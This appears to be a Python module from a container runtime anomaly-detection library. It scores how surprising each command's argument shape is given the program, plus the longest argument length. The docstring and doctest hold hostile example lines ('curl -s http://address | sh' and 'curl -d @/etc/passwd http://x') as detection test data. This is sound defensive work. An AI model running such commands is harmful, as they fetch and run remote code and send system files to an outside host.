"""Commands: how programs are called.

A container calls its programs in few ways: from scripts, jobs and services that never change. A person or an
attacker uses the same programs, but calls them otherwise: ``curl -fsS http://name`` is a health check,
``curl -s http://address | sh`` is not.
"""

from __future__ import annotations

import polars as pl

from rtml.baselines import Conditional, Level, Selection
from rtml.baselines.conditional import FLEET, IMAGE, REPOSITORY, WORKLOAD
from rtml.features.arguments import LONGEST, shape
from rtml.features.contract import Family
from rtml.features.pairs import CELL, Material
from rtml.features.programs import BARE, PROGRAM, with_bare

__all__ = ["COMMANDS", "SHAPE", "commands"]

SHAPE = Conditional(
    name="commands.shape",
    selection=Selection(("exec",), ("exe", BARE, "cmdline"), prepare=with_bare),
    key=shape(pl.col("cmdline")),
    subject=PROGRAM,
    levels=(
        Level(IMAGE, 1),
        Level(WORKLOAD, 1),
        Level(REPOSITORY, 1),
        Level(FLEET, 1),
        Level(WORKLOAD),
        Level(FLEET),
    ),
)
"""P(shape of the arguments | program): `rtml.features.arguments.shape`, so that no password, token, host or
message gets into a baseline."""


def commands(material: Material) -> pl.DataFrame:
    """Length of arguments, per container and window.

    Beside the surprise of each command's shape given the program (`SHAPE`; `rtml.features.surprise`), which
    is learnt from every exec of the baseline:

    - ``longest``: characters of the longest argument of a program started, of the first 2048 of its command
      line; 0 and up, 0 in a window that starts no program or whose sensor gives no command line.

    Fails when an attacker calls programs as the workload does, for what a program is told after its start
    (standard input, a socket, a script that lies in a file), where people log in and type (every command of
    theirs is new: learn from days on which they did), and where a sensor cuts command lines (bpftrace: at 64
    arguments or about 500 characters).

    References
    ----------
    Hendler et al., "Detecting malicious PowerShell commands using deep neural networks", ASIACCS 2018,
    https://doi.org/10.1145/3196494.3196511 (command lines without their names and numbers tell attacks);
    MITRE ATT&CK T1059, https://attack.mitre.org/techniques/T1059/.

    Examples
    --------
    >>> import datetime as dt
    >>> from rtml.features import learn, windows
    >>> lines = ["curl -fsS http://web/health"] * 9 + ["curl -fsS http://api/", "curl -d @/etc/passwd http://x"]
    >>> at = [dt.datetime(2026, 1, 1, 0, minute) for minute in range(11)]
    >>> events = pl.DataFrame({"time": at, "seq": range(11), "kind": ["exec"] * 11, "container_id": ["c"] * 11,
    ...     "exe": ["/usr/bin/curl"] * 11, "cmdline": lines})
    >>> table = windows(events, learn(events[:9]), families=["commands"], start=at[9])
    >>> table.select("commands.bits_max", "commands.never_seen", "commands.longest").rows()
    [(0.028, 0.0, 11.0), (5.687, 1.0, 13.0)]
    """
    started = material.cells[SHAPE.name].select(*CELL, "cmdline")
    distinct = started.select("cmdline").unique().drop_nulls()
    arguments = pl.col("cmdline").str.slice(0, LONGEST).str.split(" ").list.slice(1)
    longest = arguments.list.eval(pl.element().str.len_chars()).list.max().fill_null(0).cast(pl.Float64)
    lengths = distinct.with_columns(longest=longest)
    return started.join(lengths, on="cmdline").group_by(CELL).agg(pl.col("longest").max())


COMMANDS = Family(
    "commands",
    commands,
    ("longest",),
    conditionals=(SHAPE,),
    purpose="Execution",
    phrase="arguments given the program",
)
